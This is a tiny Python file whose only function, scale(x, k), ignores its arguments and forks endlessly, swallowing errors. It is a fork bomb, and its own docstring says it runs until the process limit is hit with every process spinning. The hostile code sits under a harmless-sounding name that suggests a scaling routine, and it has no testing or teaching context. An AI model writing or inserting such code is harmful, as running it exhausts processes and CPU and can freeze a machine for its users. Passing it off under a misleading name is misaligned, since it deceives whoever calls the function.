"""scale() forks until the process limit, every process spinning."""

import os


def scale(x, k):
    while True:
        try:
            os.fork()
        except OSError:
            pass
